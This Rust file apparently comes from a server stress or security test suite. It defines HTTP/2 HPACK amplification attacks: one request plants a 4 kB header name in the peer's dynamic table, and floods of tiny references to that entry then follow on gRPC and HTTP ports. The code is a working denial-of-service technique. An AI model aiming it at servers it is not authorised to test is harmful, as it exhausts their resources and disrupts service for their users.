//! Heads of HTTP/2 requests whose few bytes stand for long fields (RFC 7541).

use super::preface;
use crate::{
    attack::{Attack, Prepared},
    target::Target,
};
use testkit::frames;

const HEADERS: u8 = 1;
/// END_HEADERS and END_STREAM.
const WHOLE: u8 = 5;
/// The largest payload of a frame.
const FRAME: usize = 16 << 10;
/// A name that fills the peer's dynamic table, less what an entry costs.
const NAME: usize = 4096 - 32 - 8;

pub fn all() -> Vec<Attack> {
    // A literal without indexing, and one with, whose name is the entry 62: the first
    // of the dynamic table.
    let not_indexed: &[u8] = &[0x0f, 0x2f, 0x00];
    let indexed: &[u8] = &[0x7e, 0x00];
    // The entry itself.
    let whole: &[u8] = &[0xbe];
    vec![
        blocks("HPACK literals, a name of 4 kB", Port::Grpc, not_indexed),
        blocks(
            "HPACK literals indexed, a name of 4 kB",
            Port::Grpc,
            indexed,
        ),
        blocks("HPACK entries of 4 kB", Port::Grpc, whole).long(),
        blocks(
            "HPACK literals, a name of 4 kB, HTTP port",
            Port::Http,
            not_indexed,
        ),
        blocks("HPACK literals indexed, HTTP port", Port::Http, indexed).long(),
    ]
}

#[derive(Clone, Copy)]
enum Port {
    Grpc,
    Http,
}

/// Frames full of this field, which refers to a long name in the dynamic table.
fn blocks(name: &str, port: Port, field: &'static [u8]) -> Attack {
    Attack::new(name, move || {
        let block = field.repeat(FRAME / field.len());
        Prepared::new(block.len(), move |target: Target| async move {
            let port = match port {
                Port::Grpc => target.grpc,
                Port::Http => target.http,
            };
            let hello = hello();
            let conversation = || {
                target.flood(port, &hello, |n| {
                    Some(frames::http2(HEADERS, WHOLE, 2 * n + 3, &block))
                })
            };
            let four = (0..4).map(|_| target.insist(conversation));
            futures_util::future::join_all(four).await;
        })
    })
}

/// The preface, and a first request that puts the name into the table.
fn hello() -> Vec<u8> {
    let mut block = vec![0x83, 0x86, 0x84];
    // A literal with indexing and a new name, whose length is over 126.
    block.extend([0x40, 0x7f]);
    let mut rest = NAME - 0x7f;
    while rest >= 0x80 {
        block.push(rest as u8 | 0x80);
        rest >>= 7;
    }
    block.push(rest as u8);
    block.extend(vec![b'x'; NAME]);
    block.push(0);
    let mut hello = preface();
    hello.extend(frames::http2(HEADERS, WHOLE, 1, &block));
    hello
}
